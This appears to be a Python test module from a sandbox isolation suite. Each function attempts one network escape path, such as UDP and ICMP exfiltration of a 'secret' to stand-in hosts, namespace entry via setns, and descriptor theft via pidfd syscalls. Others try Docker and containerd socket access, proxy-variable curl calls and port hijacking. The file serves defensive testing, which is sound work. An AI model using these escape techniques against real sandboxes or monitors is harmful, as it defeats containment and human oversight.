"""Attempts by other ways than connections to hosts."""
import ctypes, os, socket, struct, subprocess

from attempts import (ALLOWED, LIBC, OTHER, SEEN_HTTP, address_of, ask, attempt, listening, quietly, send, tcp)


@attempt("navikt/cplt#241: UDP is unrestricted, including under proxy-forced")
def datagrams():
    for address in (ALLOWED, OTHER, "198.18.0.2", "203.0.113.53", "255.255.255.255", "127.0.0.1"):
        for port in (9, 53, 80, 443):
            with socket.socket(type=socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                quietly(lambda: s.sendto(b"secret", (address, port)))
                quietly(lambda: s.connect((address, port)))
                quietly(lambda: s.send(b"secret"))


@attempt("mensfeld/code-on-incus#475: scope allowlist egress to TCP/UDP + rate-limited ICMP")
def other_protocols():
    for family in (2, 10, 16, 17, 30, 31, 38, 40, 43, 44):
        for kind in (1, 2, 3, 5, 10):
            for proto in (0, 1, 58, 132, 136, 255, 262):
                def talk():
                    with socket.socket(family, kind, proto) as s:
                        s.settimeout(0.2)
                        s.connect((OTHER if family != 10 else f"::ffff:{OTHER}", 80))
                        s.send(b"secret")

                try:
                    talk()
                except (OSError, TypeError, ValueError, OverflowError):
                    pass


@attempt("landlock-lsm/linux#41: Restrict TCP Fast Open connection (TCP_FASTOPEN_CONNECT)")
def options_of_sockets():
    with socket.socket() as s:
        for level, option, value in ((0, 19, 1), (41, 75, 1), (1, 36, 1), (6, 19, 1), (1, 25, b"out\0"), (6, 30, 1),
                                     (6, 31, b"smc\0"), (6, 42, 1)):
            quietly(lambda: s.setsockopt(level, option, value))
        s.settimeout(1)
        quietly(lambda: s.connect((OTHER, 80)))
        quietly(lambda: s.send(b"x"))


@attempt("AdnaneKhan/Cacheract#15: Bypass Step Security Harden Runner (if running)")
def routes_and_interfaces():
    def change(kind, flags, body):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
            s.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
            s.settimeout(1)
            s.recv(4096)

    route = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("HHI", 8, 4, 1)
    quietly(lambda: change(25, 5, route))
    quietly(lambda: change(16, 5, struct.pack("BBHiII", 0, 0, 0, 1, 0, 1)))
    tcp(OTHER, 80), ask([b"secret", b"evil", b"example"])


@attempt()
def other_namespaces():
    for flags in (0x40000000, 0x10000000 | 0x40000000):
        LIBC.unshare(flags)
    for process in os.listdir("/proc"):
        if process.isdigit():
            def enter():
                handle = os.open(f"/proc/{process}/ns/net", os.O_RDONLY)
                LIBC.setns(handle, 0)
                os.close(handle)

            quietly(enter)
    tcp(OTHER, 80)


@attempt("landlock-lsm/linux#33: Socket FDs sharing control")
def the_broker_as_a_process():
    for process in range(1, 400):
        quietly(lambda: os.kill(process, 0) if process != os.getpid() else None)
        for number in range(0, 12):
            def take():
                handle = LIBC.syscall(434, process, 0)
                if handle >= 0:
                    LIBC.syscall(438, handle, number, 0)
                    os.close(handle)

            quietly(take)
    tcp(OTHER, 80)


@attempt("openai/codex#10814: block io_uring syscalls in no-network seccomp policy")
def a_ring():
    LIBC.syscall(425, 8, ctypes.create_string_buffer(120))
    tcp(OTHER, 80)


@attempt("CVE-2020-15257: containerd-shim: abstract sockets in the host's network (GHSA-36xw-fx78-c5r4)")
def abstract_sockets():
    with open("/proc/net/unix") as table:
        names = [row.split()[-1] for row in table.read().splitlines()[1:] if row.split()[-1].startswith("@")]
    for name in ["@/containerd-shim/x.sock", "@/tmp/.X11-unix/X0", *names]:
        with socket.socket(socket.AF_UNIX) as s:
            quietly(lambda: s.connect("\0" + name[1:]))


@attempt("GreyhavenHQ/greywall#55: Sandbox escape via host sockets exposed in /run")
def sockets_of_unix():
    for name in ("/run/docker.sock", "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket"):
        with socket.socket(socket.AF_UNIX) as s:
            quietly(lambda: s.connect(name))


@attempt("docker/sbx-releases#240: Upstream proxy CONNECT requests use wrong target port")
def variables_for_proxies():
    for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
        os.environ[name] = "*" if name == "NO_PROXY" else f"http://{OTHER}:80"
    quietly(lambda: subprocess.run(["curl", "-sS", "-m", "3", "http://other.example/"], capture_output=True))


@attempt()
def a_run_inside():
    curl = ["curl", "-sS", "-m", "3", f"http://{OTHER}/"]
    words = [os.environ["SBX_PROGRAM"], "run", "-q", "--net", "host", "--", *curl]
    quietly(lambda: subprocess.run(words, capture_output=True))


@attempt(seen=SEEN_HTTP)
def many_connections():
    held = [quietly(lambda: socket.create_connection(("allowed.example", 80), timeout=3)) for _ in range(600)]
    tcp(OTHER, 80)
    del held


@attempt("tpm2-software/tpm2-tss#318: another process can steal connections", seen=SEEN_HTTP)
def a_server_in_the_place_of_a_host():
    def serve():
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((address_of("allowed.example"), 80))
            s.listen()

    quietly(serve)
    tcp(OTHER, 80)


@attempt(seen=SEEN_HTTP)
def bytes_after_the_end():
    def talk():
        with socket.create_connection(("allowed.example", 80), timeout=3) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
            s.shutdown(socket.SHUT_WR)
            s.recv(1000)
            LIBC.connect(s.fileno(), bytes(16), 16)
            s.connect((OTHER, 80))
            s.send(b"x")

    quietly(talk)


@attempt("moby/moby#44562: block socket calls to AF_VSOCK in default profile")
def sockets_of_virtual_machines():
    for context in (0, 1, 2, 3):
        def talk():
            with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect((context, 80))
                s.send(b"secret")

        quietly(talk)


@attempt("boxlite-ai/boxlite#1090: apply allow_net to UDP egress", seen=["question allowed.example"])
def quic():
    initial = b"\xc3\0\0\0\1\x08" + b"R" * 8 + b"\0\0\x44\xb0" + bytes(1200)
    for address in (address_of("allowed.example"), ALLOWED, OTHER):
        with socket.socket(type=socket.SOCK_DGRAM) as s:
            quietly(lambda: s.sendto(initial, (address, 443)))


@attempt("mensfeld/code-on-incus#475: ICMP tunnelling to an allowed address")
def echo_requests():
    request = struct.pack(">BBHHH", 8, 0, 0xF7FE, 0, 1)
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        for address in (ALLOWED, OTHER):
            def talk():
                with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
                    s.sendto(request + b"secret", (address, 0))

            quietly(talk)


@attempt("tpm2-software/tpm2-tss#318: SO_REUSEPORT: another process can steal connections", seen=SEEN_HTTP)
def the_brokers_ports_taken():
    held = []
    for port in (53, 80, *listening()):
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            for address in ("0.0.0.0", "198.18.0.2", OTHER):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    def take():
                        s = socket.socket(socket.AF_INET, kind)
                        s.setsockopt(socket.SOL_SOCKET, option, 1)
                        s.setsockopt(0, 15, 1)  # IP_FREEBIND
                        s.bind((address, port))
                        held.append(s)

                    quietly(take)
    send("allowed.example", 80, b"GET / HTTP/1.1\r\nHost: shared.example\r\n\r\n")
    tcp(OTHER, 80)
